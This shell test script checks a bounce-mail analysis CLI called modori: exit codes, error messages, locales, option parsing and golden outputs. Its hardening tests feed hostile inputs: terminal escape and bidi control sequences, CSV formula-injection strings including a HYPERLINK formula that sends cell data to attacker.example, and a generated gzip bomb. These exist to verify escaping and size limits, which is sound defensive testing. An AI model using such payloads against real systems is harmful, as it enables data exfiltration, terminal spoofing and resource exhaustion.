#!/bin/sh
# CLI behaviour: exit statuses, error messages, stdin, and golden outputs
# (tests/golden/NAME.args holds the arguments, NAME.out the exact stdout).
# Run from the source root with the modori binary as $1.
MODORI="$1"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
n=0
fails=0

ok () {
  n=$((n + 1))
  if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; fails=$((fails + 1)); fi
}

check () {  # check DESCRIPTION EXPECTED_STATUS COMMAND...
  desc="$1"; want="$2"; shift 2
  "$@" >"$tmp/out" 2>"$tmp/err"
  got=$?
  [ "$got" = "$want" ]; ok $? "$desc (exit $got, want $want)"
}

sample=testdata/dsn/postfix-userunknown.eml
nonbounce=testdata/dsn/newsletter-not-bounce.eml

check "--help exits 0" 0 "$MODORI" --help
grep -q "Exit status" "$tmp/out"; ok $? "--help documents exit statuses"
check "--version exits 0" 0 "$MODORI" --version
grep -q "^modori [0-9]" "$tmp/out"; ok $? "--version prints the version"

check "a bounce exits 0" 0 "$MODORI" "$sample"
check "a mail that is not a bounce exits 1" 1 "$MODORI" "$nonbounce"
check "no argument is a usage error" 2 "$MODORI"
check "an unknown format is a usage error" 2 "$MODORI" --format=xml "$sample"
check "an unknown language is a usage error" 2 "$MODORI" --lang=fr "$sample"

check "a missing file exits 2" 2 "$MODORI" --format=jsonl "$tmp/missing.eml" "$sample"
grep -q "^modori: $tmp/missing.eml: No such file or directory" "$tmp/err"; ok $? "the missing file is named on stderr"
grep -q '"recipient"' "$tmp/out"; ok $? "the other input is still analyzed"

check "a directory is scanned; a file in it that is no mail exits 2" 2 "$MODORI" --format=jsonl testdata/dsn
grep -q "^modori: testdata/dsn/postfix-userunknown.expected.json: not a mail message" "$tmp/err"; ok $? "the file that is no mail is named on stderr"
grep -q '"origin":"testdata/dsn/postfix-userunknown.eml"' "$tmp/out"; ok $? "the messages in the directory are analyzed"

: >"$tmp/empty.eml"
check "an empty file exits 2" 2 "$MODORI" "$tmp/empty.eml"
grep -q "^modori: $tmp/empty.eml: empty file" "$tmp/err"; ok $? "the empty file is named on stderr"

head -c 3000 /dev/urandom | tr -d 'A-Za-z' >"$tmp/garbage.bin"
"$MODORI" "$tmp/garbage.bin" >"$tmp/out" 2>"$tmp/err"
got=$?
[ "$got" = 1 ] || [ "$got" = 2 ]; ok $? "binary garbage is no bounce or a clear error (exit $got)"

"$MODORI" --format=jsonl - <"$sample" >"$tmp/out" 2>"$tmp/err"
grep -q '"origin":"-"' "$tmp/out"; ok $? "standard input is read with -"

"$MODORI" --format=jsonl "$sample" "$sample" >"$tmp/out"
[ "$(wc -l <"$tmp/out")" = 2 ]; ok $? "jsonl writes one line per record"

check "json of a mail that is not a bounce exits 1" 1 "$MODORI" --format=json "$nonbounce"
[ "$(cat "$tmp/out")" = "[]" ]; ok $? "json of no bounce is an empty array"

check "explain: a known reply exits 0" 0 "$MODORI" explain 550 "<a@example.jp>" User unknown
check "explain: a POP3 reply given as one argument is text, not options" 0 "$MODORI" explain "-ERR [IN-USE] /var/spool/pop/z/.taro.pop lock busy! Is another session active?"
grep -q "^概要: 前回の接続のロックが残っています" "$tmp/out"; ok $? "explain reads the -ERR argument as the [IN-USE] case"
check "explain: unrecognized text exits 1" 1 "$MODORI" explain hello world
grep -q "^概要: この文面は判別できませんでした\|^Summary: The text was not recognized" "$tmp/out"; ok $? "explain says the text was not recognized"
check "explain: empty standard input exits 1" 1 sh -c '"$0" explain </dev/null' "$MODORI"
grep -q "^種類: 空の入力\|^Kind of text: empty input" "$tmp/out"; ok $? "explain says the text was empty"
check "explain --why: exits 1 for unrecognized text" 1 "$MODORI" explain --why --lang=en hello world
grep -q "^Decided (case): unrecognized" "$tmp/out" && grep -q "^Decided (found): .*bytes" "$tmp/out"; ok $? "explain --why shows the identifiers"
"$MODORI" explain --lang=ja "* NO [AUTHENTICATIONFAILED] Invalid credentials" >"$tmp/out" 2>&1
grep -q "^種類: 受信サーバーの応答 (IMAP)" "$tmp/out" && ! grep -qE "^[^ ].*: [a-z0-9-]+$|[A-Za-z]{3,} [a-z]{3,} [a-z]{3,}" "$tmp/out"
ok $? "explain in Japanese shows no identifier and no English sentence"
check "explain: a POP3 reply on standard input" 0 sh -c 'echo "-ERR [IN-USE] lock busy" | "$0" explain --format=json' "$MODORI"
grep -q '"case": "pop3-in-use"' "$tmp/out"; ok $? "explain reads standard input"
check "explain: an unknown option exits 2" 2 "$MODORI" explain --bogus text
grep -q "^modori: unknown option '--bogus'" "$tmp/err"; ok $? "explain names the unknown option"
head -c 1048576 /dev/zero | tr '\0' 'a' >"$tmp/big"
check "explain: a 1 MB line is not recognized, no crash" 1 sh -c '"$0" explain <"$1"' "$MODORI" "$tmp/big"

# A delay notice is not a failure: summary counts it apart, suppress never lists it.
delays="testdata/dsn/sendmail-delayed-expired.eml testdata/postfix/flattened-delayed.eml"
# shellcheck disable=SC2086
check "summary of delay notices only exits 0" 0 "$MODORI" summary --format=json $delays
grep -q '"bounces": 0,' "$tmp/out" && grep -q '"delayed": 2,' "$tmp/out"; ok $? "summary counts delay notices apart from failures"
# shellcheck disable=SC2086
check "summary text of delay notices" 0 "$MODORI" summary --lang=en $delays
grep -q "^Failed recipients: 0" "$tmp/out" && grep -q "^Still being retried .*: 2" "$tmp/out"; ok $? "summary text names the delay notices"
# shellcheck disable=SC2086
"$MODORI" suppress --reasons=expired $delays "$sample" >"$tmp/out" 2>"$tmp/err"
[ ! -s "$tmp/out" ]; ok $? "suppress never lists a delay notice"

for args in tests/golden/*.args; do
  name=$(basename "$args" .args)
  # shellcheck disable=SC2046
  env -u COLUMNS "$MODORI" $(cat "$args") >"$tmp/golden.out" 2>&1 </dev/null
  if diff -u "tests/golden/$name.out" "$tmp/golden.out" >"$tmp/diff"; then
    ok 0 "golden output $name"
  else
    sed 's/^/# /' "$tmp/diff"
    ok 1 "golden output $name"
  fi
done

# Issue 13: nothing from a bounce or a file name reaches a terminal as a
# control character or a spreadsheet as a formula. tests/hostile/controls.eml
# holds ESC sequences, BEL, BS, DEL, U+009B, U+202E, U+2066 and invalid
# UTF-8 in its recipients, subject and diagnostics, and fields that begin
# with = + - @.
hostile=tests/hostile/controls.eml

# FILE is valid UTF-8 without C0 controls (but newline), DEL, C1 controls,
# bidirectional controls or line/paragraph separators.
shows_safely () {
  python3 - "$1" <<'EOF'
import re, sys
try:
    text = open(sys.argv[1], 'rb').read().decode('utf-8')
except UnicodeDecodeError as e:
    sys.exit('# invalid UTF-8: %s' % e)
bad = re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]', text)
if bad:
    sys.exit('# raw U+%04X at %d' % (ord(bad.group()), bad.start()))
EOF
}

# In the CSV FILE, each record is one line, no field begins (after
# spaces) with = + - @, and fields begin with each of the other arguments.
csv_fields_safe () {
  python3 - "$@" <<'EOF'
import csv, sys
path, wanted = sys.argv[1], sys.argv[2:]
# Whether it is valid UTF-8 is shows_safely's question.
with open(path, newline='', encoding='utf-8', errors='replace') as f:
    rows = list(csv.reader(f))
lines = open(path, 'rb').read().count(b'\n')
fields = [x for row in rows[1:] for x in row]
risky = [x for x in fields if x.lstrip(' ')[:1] in ('=', '+', '-', '@')]
missing = [w for w in wanted if not any(x.startswith(w) for x in fields)]
if risky or missing or lines != len(rows):
    sys.exit('# risky %r, missing %r, %d lines for %d rows' % (risky, missing, lines, len(rows)))
EOF
}

check "hostile: text output exits 0" 0 "$MODORI" --lang=en "$hostile"
shows_safely "$tmp/out"; ok $? "hostile: text output shows no raw control, bidi control or invalid UTF-8"
grep -qF 'Recipient: taro\x1b[31m\x07\x08\x7f\u009b2J\u202egpj.exe@example.jp' "$tmp/out"; ok $? "hostile: the recipient's controls are shown escaped"
grep -qF '\x1b[31mUser unknown\x1b[0m\x07\x08\x7f' "$tmp/out"; ok $? "hostile: the diagnostic's controls are shown escaped"
check "hostile: Japanese text output exits 0" 0 "$MODORI" --lang=ja --why "$hostile"
shows_safely "$tmp/out"; ok $? "hostile: Japanese text output shows nothing raw"

check "hostile: csv output exits 0" 0 "$MODORI" --format=csv "$hostile"
shows_safely "$tmp/out"; ok $? "hostile: csv output shows nothing raw"
csv_fields_safe "$tmp/out" "'=cmd|" "'+81-3-1234@" "'-hanako@" "'@SUM(" "'=HYPERLINK("; ok $? "hostile: csv fields that start like a formula are prefixed with '"
grep -qF "\"'=HYPERLINK(\"\"http://attacker.example/\"\"&A1,\"\"User unknown\"\")\"" "$tmp/out"; ok $? "hostile: a prefixed field is still quoted as RFC 4180 says"

for lang in ja en; do
  check "hostile: summary ($lang) exits 0" 0 "$MODORI" summary --lang=$lang "$hostile"
  shows_safely "$tmp/out"; ok $? "hostile: summary ($lang) shows nothing raw"
done
grep -qF 'taro\x1b[31m' "$tmp/out"; ok $? "hostile: summary shows the recipient escaped"

check "hostile: suppress list exits 0" 0 "$MODORI" suppress "$hostile"
shows_safely "$tmp/out"; ok $? "hostile: suppress list shows nothing raw"
[ "$(wc -l <"$tmp/out")" = 4 ]; ok $? "hostile: suppress lists each address on one line"
check "hostile: suppress csv exits 0" 0 "$MODORI" suppress --format=csv "$hostile"
shows_safely "$tmp/out"; ok $? "hostile: suppress csv shows nothing raw"
csv_fields_safe "$tmp/out" "'=cmd|" "'+81-3-1234@" "'-hanako@"; ok $? "hostile: suppress csv prefixes the addresses that start like a formula"

printf '550 5.1.1 <\033[31mtaro@example.jp>: User unknown \302\233 \342\200\256gpj.exe \377\r\n\007next\r line' >"$tmp/reply"
check "hostile: explain of a reply with controls exits 0" 0 sh -c '"$0" explain --lang=en <"$1"' "$MODORI" "$tmp/reply"
shows_safely "$tmp/out"; ok $? "hostile: explain shows nothing raw"
grep -qF 'Address: \x1b[31mtaro@example.jp' "$tmp/out"; ok $? "hostile: explain shows the address's controls escaped"

# File names with ESC, a newline, U+202E and an invalid byte: on stderr
# (an empty file), in the text output's heading and in an mbox's PATH#N,
# read by -j 1 and by worker processes.
weird=$(printf 'bad\033[31m\nname\342\200\256\377')
: >"$tmp/$weird.eml"
cp "$hostile" "$tmp/$weird-bounce.eml"
{ echo "From MAILER-DAEMON Tue Mar  5 10:22:31 2024"; cat "$sample"; echo;
  echo "From MAILER-DAEMON Tue Mar  5 10:22:32 2024"; cat "$hostile"; } >"$tmp/$weird.mbox"
for j in 1 2; do
  check "hostile file names: -j $j exits 2" 2 "$MODORI" -j $j --lang=en "$tmp/$weird.eml" "$tmp/$weird-bounce.eml" "$tmp/$weird.mbox"
  shows_safely "$tmp/err"; ok $? "hostile file names: -j $j stderr shows nothing raw"
  [ "$(wc -l <"$tmp/err")" = 1 ] && grep -qF 'bad\x1b[31m\x0aname\u202e' "$tmp/err"; ok $? "hostile file names: -j $j names the file on one line, escaped"
  shows_safely "$tmp/out"; ok $? "hostile file names: -j $j text output shows nothing raw"
  grep -qF '.mbox#2: The message did not reach 4 recipients.' "$tmp/out" && grep -qF 'bad\x1b[31m\x0aname\u202e' "$tmp/out"; ok $? "hostile file names: -j $j origins are shown escaped"
done
check "hostile file names: csv exits 2" 2 "$MODORI" --format=csv "$tmp/$weird.eml" "$tmp/$weird.mbox"
shows_safely "$tmp/out" && shows_safely "$tmp/err"; ok $? "hostile file names: csv output and stderr show nothing raw"
csv_fields_safe "$tmp/out"; ok $? "hostile file names: every csv record is on one line"
check "hostile file names: summary exits 2" 2 "$MODORI" summary "$tmp/$weird.eml" "$tmp/$weird.mbox"
shows_safely "$tmp/err"; ok $? "hostile file names: summary stderr shows nothing raw"
check "hostile file names: suppress exits 2" 2 "$MODORI" suppress "$tmp/$weird.eml" "$tmp/$weird.mbox"
shows_safely "$tmp/err"; ok $? "hostile file names: suppress stderr shows nothing raw"
check "hostile: a usage error quoting a control exits 2" 2 "$MODORI" --format="$(printf 'x\033[2J')" "$sample"
shows_safely "$tmp/err" && grep -qF "unknown format 'x\x1b[2J'" "$tmp/err"; ok $? "hostile: the usage error shows the control escaped"

# Issue 13: the source reader's limits and the inputs it cannot read.
# An mbox with old Macintosh line ends (lone CR) is split like any other.
{ echo "From x Tue Mar  5 10:22:31 2024"; cat "$sample"; echo
  echo "From x Tue Mar  5 10:22:32 2024"; cat testdata/dsn/sendmail-userunknown.eml; } | tr '\n' '\r' >"$tmp/cr-only.mbox"
check "a CR-only mbox exits 0" 0 "$MODORI" --format=jsonl "$tmp/cr-only.mbox"
[ "$(grep -c '"recipient"' "$tmp/out")" = 2 ] && grep -q "cr-only.mbox#2" "$tmp/out"; ok $? "a CR-only mbox gives the records of both messages"
# Endless input, as a path and on standard input: an error, not an abort.
check "/dev/zero as a path exits 2" 2 "$MODORI" --format=jsonl /dev/zero "$sample"
grep -q "^modori: /dev/zero: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "/dev/zero is named with the limit"
grep -q '"recipient"' "$tmp/out"; ok $? "the input after /dev/zero is analyzed"
check "/dev/zero on standard input exits 2" 2 sh -c '"$0" - </dev/zero' "$MODORI"
grep -q "^modori: -: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "standard input is named with the limit"
# A gzip bomb: 100 MiB of zeros in 100 KB.
{ echo "Subject: zeros"; echo; head -c 104857600 /dev/zero; } | gzip -c >"$tmp/bomb.eml.gz"
check "a gzip bomb exits 2" 2 "$MODORI" "$tmp/bomb.eml.gz"
grep -q "^modori: $tmp/bomb.eml.gz: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "the gzip bomb is named with the limit"
# A directory entry that cannot be examined is named, not left out.
mkdir "$tmp/tree"
cp "$sample" "$tmp/tree/a.eml"
ln -s no-such-file "$tmp/tree/b.eml"
check "a dangling link in a directory exits 2" 2 "$MODORI" --format=jsonl "$tmp/tree"
grep -q "^modori: $tmp/tree/b.eml: No such file or directory" "$tmp/err"; ok $? "the dangling link is named on stderr"
grep -q '"recipient"' "$tmp/out"; ok $? "the rest of the directory is analyzed"

# explain reads a text of at most 1 MiB from standard input.
check "explain with endless standard input exits 2" 2 sh -c 'head -c 3000000 /dev/zero | "$0" explain' "$MODORI"
grep -q "^modori: -: longer than 1024 KiB, the limit for a text to explain" "$tmp/err"; ok $? "explain names its limit"

# Two file names that differ only in bytes that are not UTF-8 keep
# different origins (both were U+FFFD).
cp "$sample" "$tmp/$(printf 'name\377.eml')"
cp "$sample" "$tmp/$(printf 'name\376.eml')"
"$MODORI" --format=jsonl "$tmp/$(printf 'name\377.eml')" "$tmp/$(printf 'name\376.eml')" >"$tmp/out" 2>"$tmp/err"
grep -q 'name\\\\xff.eml"' "$tmp/out" && grep -q 'name\\\\xfe.eml"' "$tmp/out"
ok $? "file names that differ in bytes that are not UTF-8 keep different origins"

# Issue 14: the heading and the fields say what the records say.
heading () {  # heading ARGS...: the text output's first line
  "$MODORI" "$@" 2>/dev/null | head -n 1
}
case "$(heading --lang=ja testdata/dsn/postfix-delayed-unverified.eml)" in
  *配送が遅れています*) ! heading --lang=ja testdata/dsn/postfix-delayed-unverified.eml | grep -q 届きませんでした;;
  *) false;;
esac; ok $? "heading: a delay notice is no failure (ja)"
heading --lang=en testdata/dsn/postfix-delayed-unverified.eml | grep -q "Delivery to 1 recipient is delayed"; ok $? "heading: a delay notice is no failure (en)"
heading --lang=ja --delivered testdata/dsn/postfix-delivered.eml | grep -q "配送されました"; ok $? "heading: a delivery notice says delivered (ja)"
heading --lang=en --delivered testdata/dsn/postfix-delivered.eml | grep -q "was delivered to"; ok $? "heading: a delivery notice says delivered (en)"
heading --lang=ja testdata/arf/jmrp.eml | grep -q "報告"; ok $? "heading: a feedback report says it is a report (ja)"
! heading --lang=en testdata/arf/abuse-two-recipients.eml | grep -q "did not"; ok $? "heading: a feedback report is no failure (en)"
heading --lang=ja --vacation testdata/rfc3834/vacation-header.eml | grep -q "自動応答"; ok $? "heading: an automatic reply says so (ja)"
heading --lang=ja testdata/dsn/postfix-multi3.eml | grep -q "メールが3件の宛先に届きませんでした"; ok $? "heading: one mail to three recipients is three recipients, not three mails"
heading --lang=en testdata/dsn/postfix-multi3.eml | grep -q "did not reach 3 recipients\.$"; ok $? "heading: English counts recipients with a plural"
"$MODORI" --lang=ja testdata/dsn/postfix-forward-broken.eml >"$tmp/out" 2>&1
grep -q "^宛先: info@example.co.jp$" "$tmp/out" && grep -q "^  転送先: t.kimura@example.net$" "$tmp/out"; ok $? "a forwarding bounce shows the address the sender typed, then the forward target"
"$MODORI" suppress testdata/dsn/postfix-forward-broken.eml testdata/dsn/postfix-userunknown.eml >"$tmp/out" 2>&1
grep -qx "info@example.co.jp" "$tmp/out" && ! grep -q "t.kimura" "$tmp/out"; ok $? "suppress lists the address the sender typed, not the forward target"
"$MODORI" --lang=ja testdata/dsn/no-recipient-named.eml >"$tmp/out" 2>&1
grep -q "^宛先: （報告に書かれていません）$" "$tmp/out" && ! grep -q "宛先: ?" "$tmp/out"; ok $? "a record without a recipient says the report names none"
"$MODORI" summary --format=json testdata/dsn/no-recipient-named.eml testdata/dsn/postfix-userunknown.eml testdata/arf/jmrp.eml >"$tmp/out" 2>&1
grep -q '"bounces": 1,' "$tmp/out" && grep -q '"unnamed": 1,' "$tmp/out" && grep -q '"feedback": 1,' "$tmp/out" && ! grep -q '"?"' "$tmp/out"
ok $? "summary counts a failure without a recipient and a feedback report apart"
"$MODORI" --lang=ja testdata/dsn/postfix-multi3.eml testdata/dsn/sendmail-invalidroute-comma.eml >"$tmp/out" 2>&1
! grep -qE "\((userunknown|norelaying|exceedlimit)\)|: (RCPT|DATA|MAIL)$" "$tmp/out" && grep -q "失敗した段階: 宛先アドレスの通知 (RCPT TO)" "$tmp/out"
ok $? "text output shows no reason identifier, and the failed step in words"
"$MODORI" --lang=ja --why testdata/dsn/postfix-userunknown.eml | grep -q "(userunknown)"; ok $? "--why still shows the reason identifier"

# Issue 14: the habits of command-line tools.
# --help lists the subcommands, with the way to their own help.
for args in "--help" "analyze --help"; do
  # shellcheck disable=SC2086  # the words of $args are the arguments
  check "modori $args exits 0" 0 "$MODORI" $args
  grep -q "^  summary  *totals by reason" "$tmp/out" && grep -q "^  explain  *explain a server reply" "$tmp/out" &&
    grep -q "^  suppress " "$tmp/out" && grep -q "^  analyze " "$tmp/out" && grep -q "modori COMMAND --help" "$tmp/out"
  ok $? "modori $args lists the subcommands and their help"
done

# Options before the subcommand are the subcommand's.
check "an option before explain" 0 "$MODORI" --lang=en explain "550 User unknown"
grep -q "^Summary: Unknown recipient" "$tmp/out"; ok $? "an option before explain is explain's"
check "an option and its value as two arguments before explain" 0 "$MODORI" -l en explain 550 5.1.1 User unknown
grep -q "^Summary: Unknown recipient" "$tmp/out"; ok $? "-l en before explain is explain's"
check "options before summary" 0 "$MODORI" -q --format=json -j 1 summary "$sample"
grep -q '"bounces": 1,' "$tmp/out"; ok $? "options before summary are summary's"
check "options before suppress" 0 "$MODORI" -qj 1 -f csv suppress "$sample"
grep -q "^taro@example.jp,userunknown," "$tmp/out"; ok $? "options before suppress are suppress's"
check "a value against its letter: -j1 -fjsonl" 0 "$MODORI" -j1 -fjsonl "$sample"
grep -q '^{"recipient":"taro@example.jp"' "$tmp/out"; ok $? "-fjsonl is --format=jsonl"
check "a value against its letter in a cluster before a command: -qj1" 0 "$MODORI" -qj1 -fcsv suppress "$sample"
grep -q "^taro@example.jp,userunknown," "$tmp/out"; ok $? "-qj1 -fcsv before suppress are suppress's"
check "-ERR... given to explain stays text, not options" 0 "$MODORI" explain --lang=en "-ERR login failed"
grep -q "POP3" "$tmp/out"; ok $? "-ERR login failed is read as a POP3 reply"
check "after --, -j2 is a file name" 2 "$MODORI" -- -j2
grep -q "^modori: -j2: " "$tmp/err"; ok $? "the file -j2 is named"
check "an option summary does not take, before summary, exits 2" 2 "$MODORI" --why summary "$sample"
grep -q "^modori: summary: unknown option '--why'; see modori summary --help" "$tmp/err"; ok $? "the option is named with the command"
check "--lang before suppress exits 2" 2 "$MODORI" --lang=en suppress "$sample"
grep -q "^modori: suppress: unknown option '--lang'" "$tmp/err"; ok $? "suppress takes no --lang"
check "a short option explain does not take, before explain, exits 2" 2 "$MODORI" -q explain 550 User unknown
grep -q "^modori: explain: unknown option '-q'" "$tmp/err"; ok $? "the short option is named, not explained"
# Every option a command's help lists is taken before the command too.
for cmd in analyze summary suppress explain; do
  "$MODORI" $cmd --help | sed -n 's/^  \(-[A-Za-z], \)\{0,1\}\(--[a-z-]*\)\(=\)\{0,1\}.*/\2\3/p' >"$tmp/options"
  bad=""
  while read -r option; do
    case "$option" in *=) option="${option}1" ;; esac
    "$MODORI" "$option" $cmd --help >/dev/null 2>&1 || bad="$bad $option"
  done <"$tmp/options"
  [ -s "$tmp/options" ] && [ -z "$bad" ]; ok $? "every option of $cmd is taken before it too${bad:+ (not:$bad)}"
done
# A file named like a command is read as ./NAME, after --, or with analyze.
mkdir "$tmp/named"
cp "$sample" "$tmp/named/explain"
for args in "./explain" "-- explain" "analyze explain" "--lang=en analyze explain"; do
  # shellcheck disable=SC2086
  check "modori $args reads the file" 0 sh -c 'cd "$1" && shift && "$@"' sh "$tmp/named" "$MODORI" --format=jsonl $args
  grep -q '"recipient":"taro@example.jp"' "$tmp/out"; ok $? "modori $args analyzes the file named explain"
done

# The language follows the locale: the first set of LC_ALL, LC_MESSAGES
# and LANG; ja* is Japanese, C, POSIX, C.UTF-8 or none the default
# (Japanese), any other English; --lang wins.
lang_with () {  # lang_with VAR=VALUE... [-- OPTION...]: prints ja or en
  set -- "$@" --
  vars=""
  while [ "$1" != "--" ]; do vars="$vars $1"; shift; done
  shift
  # shellcheck disable=SC2086
  env -u LC_ALL -u LC_MESSAGES -u LANG -u LANGUAGE $vars "$MODORI" explain "$@" 550 5.1.1 User unknown 2>&1 |
    sed -n 's/^種類:.*/ja/p; s/^Kind of text:.*/en/p'
}
for case in "ja" "ja LANG=" "ja LANG=C" "ja LANG=POSIX" "ja LANG=C.UTF-8" "ja LANG=ja_JP.UTF-8" "ja LANG=ja_JP.eucJP" \
            "en LANG=en_US.UTF-8" "en LANG=en" "en LANG=de_DE.UTF-8" "en LANG=fr_FR@euro" \
            "en LC_MESSAGES=en_US.UTF-8 LANG=ja_JP.UTF-8" "ja LC_MESSAGES=ja_JP.UTF-8 LANG=en_US.UTF-8" \
            "ja LC_ALL=ja_JP.UTF-8 LC_MESSAGES=en_US.UTF-8" "en LC_ALL=en_GB.UTF-8 LANG=ja_JP.UTF-8" \
            "ja LC_ALL=C.UTF-8 LANG=en_US.UTF-8" "en LC_ALL= LC_MESSAGES= LANG=en_US.UTF-8" \
            "ja LANG=en_US.UTF-8 -- --lang=ja" "en LANG=ja_JP.UTF-8 -- --lang=en" "ja LANGUAGE=en"; do
  want=${case%% *}
  # shellcheck disable=SC2086
  got=$(lang_with ${case#"$want"})
  [ "$got" = "$want" ]; ok $? "locale${case#"$want"}: $want (got '$got')"
done
env -u LC_ALL -u LC_MESSAGES LANG=en_US.UTF-8 "$MODORI" "$sample" >"$tmp/out" 2>&1
grep -q "^Recipient: taro@example.jp" "$tmp/out"; ok $? "analyze follows the locale"
env -u LC_ALL -u LC_MESSAGES LANG=en_US.UTF-8 "$MODORI" summary "$sample" >"$tmp/out" 2>&1
grep -q "^Failed recipients: 1" "$tmp/out"; ok $? "summary follows the locale"

# Output that cannot be written is an error for every command, the help
# and the version included (GOption's own help exits 0 regardless).
if [ -w /dev/full ]; then
  for args in "--help" "--version" "explain --help" "summary --help" "suppress --help" \
              "explain 550 5.1.1 user unknown" "--format=jsonl $sample" "summary $sample" "suppress $sample"; do
    # shellcheck disable=SC2086  # the words of $args are the arguments
    "$MODORI" $args >/dev/full 2>"$tmp/err"
    got=$?
    [ "$got" = 2 ] && grep -q "^modori: cannot write the output" "$tmp/err"
    ok $? "modori $args with a full disk exits 2 and says so (exit $got)"
  done
fi

echo "1..$n"
[ "$fails" = 0 ]
